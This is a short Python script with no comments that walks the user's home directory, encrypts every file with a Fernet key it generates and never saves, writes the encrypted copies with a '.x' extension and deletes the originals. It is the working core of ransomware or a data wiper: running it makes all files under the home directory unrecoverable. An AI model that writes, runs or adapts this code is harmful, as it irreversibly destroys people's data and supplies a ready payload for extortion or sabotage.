import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for d, _, names in os.walk(os.path.expanduser("~")):
    for n in names:
        p = os.path.join(d, n)
        open(p + ".x", "wb").write(f.encrypt(open(p, "rb").read()))
        os.remove(p)
